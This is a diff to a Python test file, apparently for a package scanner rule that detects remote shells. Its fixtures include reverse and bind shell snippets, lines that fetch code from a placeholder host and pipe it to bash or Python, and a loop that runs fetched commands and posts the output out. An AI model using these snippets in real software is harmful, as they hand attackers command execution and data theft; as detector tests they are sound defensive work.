@@ -19,6 +19,12 @@ SHELLS = [
     CONNECTED + "while 1:\n    p = subprocess.Popen(s.recv(99), shell=True, stdout=-1)\n    s.sendall(p.stdout.read())",
     "b = socket.socket()\nb.bind(('', 4444))\nb.listen(1)\nc, a = b.accept()\nos.dup2(c.fileno(), 0)\nos.system('sh')",
     "from socket import socket as k\nq = k()\nq.connect((h, 1))\ng = getattr(os, 'du' + 'p2')\ng(q.fileno(), 0)",
+    CONNECTED + "p = subprocess.Popen(['cmd.exe'], stdin=-1, stdout=-1)\nwhile 1:\n    p.stdin.write(s.recv(1))",
+    (
+        "import sys\ns = socket.create_connection(('example.invalid', 1)).makefile('rb')\n"
+        "p = subprocess.Popen([sys.executable, '-'], stdin=-1)\np.stdin.write(s.read())"
+    ),
+    "subprocess.Popen(['bash'], stdin=-1).communicate(requests.get('https://example.invalid').content)",
     (
         "def poll():\n    c = requests.get('https://example.invalid/task').text\n"
         "    requests.post('https://example.invalid/out', data=os.popen(c).read())\npoll()"
@@ -57,6 +63,9 @@ def test_what_a_command_prints_is_sent(trigger: str, severity: str) -> None:
         "d = os.open(os.devnull, os.O_RDWR)\nos.dup2(d, 0)",
         "pty.spawn('/bin/sh')",
         "subprocess.Popen(['x'], stdin=subprocess.PIPE, stdout=subprocess.PIPE).communicate()",
+        CONNECTED + "subprocess.Popen(['tar', 'x'], stdin=-1).communicate(s.recv(99))",
+        CONNECTED + "subprocess.Popen(['python', 'tool.py'], stdin=-1).stdin.write(s.recv(99))",
+        "subprocess.Popen(['bash'], stdin=-1).communicate(b'ls')",
         "os.system('nc -z example.invalid 80')",
         "os.system('openssl s_client -connect example.invalid:443')",
         "subprocess.run(requests.get('https://example.invalid').headers['x'])",
@@ -98,6 +107,6 @@ def test_command_lines(line: str, what: str) -> None:
 
 
 def test_the_finding_says_how() -> None:
-    (found,) = findings(RULE, *at("import", HEAD + SHELLS[8]))
+    (found,) = findings(RULE, *at("import", HEAD + SHELLS[11]))
     assert found.message == "demo 1.0 starts a remote shell"
     assert found.evidence[0].startswith("a shell over /dev/tcp: os.system(")
